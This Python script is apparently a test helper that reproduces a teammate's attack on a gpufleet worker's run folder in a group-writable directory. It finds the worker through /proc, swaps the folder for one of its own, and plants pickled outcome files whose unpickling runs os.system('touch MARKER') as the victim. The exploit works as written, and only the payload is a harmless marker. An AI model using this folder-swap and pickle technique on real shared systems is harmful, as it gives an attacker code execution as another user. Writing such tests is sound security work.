"""A teammate's attack on a runs folder inside a group-writable team folder (standard library only).

Run as the other user: ``python3 swap_attack.py TEAM/MINE MARKER DEADLINE_S [STARTED]``. It watches
the process table for a gpufleet worker whose run folder lies in TEAM/MINE (the worker's command
line names it), waits for the file STARTED when given (the test's stand-in for good timing: the
ranks have read their payload), renames TEAM/MINE away, makes a folder of its own under the same name and keeps writing
outcome files there whose unpickling runs ``touch MARKER``, as the caller.
"""

from __future__ import annotations

import os
import pickle
import sys
import time


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def worker_run_dirs(mine: str) -> set[str]:
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for arg in argv:
            if arg.startswith(mine + os.sep):
                found.add(arg)
    return found


def main() -> None:
    mine, marker, deadline = sys.argv[1], sys.argv[2], time.monotonic() + float(sys.argv[3])
    run_dirs: set[str] = set()
    while not run_dirs and time.monotonic() < deadline:
        run_dirs = worker_run_dirs(mine)
        time.sleep(0.02)
    if not run_dirs:
        print("no worker seen", flush=True)
        return
    while len(sys.argv) > 4 and not os.path.exists(sys.argv[4]) and time.monotonic() < deadline:
        time.sleep(0.02)
    os.rename(mine, mine + ".gone")
    os.mkdir(mine)
    data = pickle.dumps(Payload(marker))
    while time.monotonic() < deadline and not os.path.exists(marker):
        for run_dir in run_dirs:
            os.makedirs(run_dir, exist_ok=True)
            for rank in range(8):
                path = os.path.join(run_dir, f"outcome-{rank}.pkl")
                with open(path + ".tmp", "wb") as f:
                    f.write(data)
                os.replace(path + ".tmp", path)
        time.sleep(0.01)
    print("swapped", flush=True)


if __name__ == "__main__":
    main()
